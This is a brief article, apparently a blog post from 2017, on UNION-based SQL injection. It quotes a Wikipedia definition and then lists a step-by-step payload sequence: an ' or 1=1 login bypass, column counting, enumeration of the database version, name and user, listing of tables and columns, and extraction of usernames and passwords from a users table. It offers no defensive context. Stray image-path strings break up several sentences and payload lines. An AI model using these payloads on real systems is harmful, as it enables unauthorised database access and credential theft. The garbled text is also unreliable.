UNION-based SQL injection

April 10, 2017    Article    118 words    1 min read

SQLinjection is a code injection technique, used to attack data-driven applications, in which nefarious SQL statements are inserted into an entry field for execution (e.g. to dump the database contents to the attacker). SQL injection mustexploit a security vulnerability in an application’s software, forexample, when user input is either incorrectly filtered for string literal escape characters embedded in SQL statements or user input is not strongly typed and unexpectedly executed. Wikipedia

' or 1=1#
1' ORDER BY10#
1' UNION SELECT version(),2#
1' UNION SELECT version(),database()#1' UNION SELECT version(),user()#
1' UNION ALL SELECT table_name,2 from information_schema.tables#
1' UNION ALL SELECT column_name,2 from information_schema.columns where table_name = "users"#
1' UNION ALL SELECTconcat(user,char(58),password),2 from users#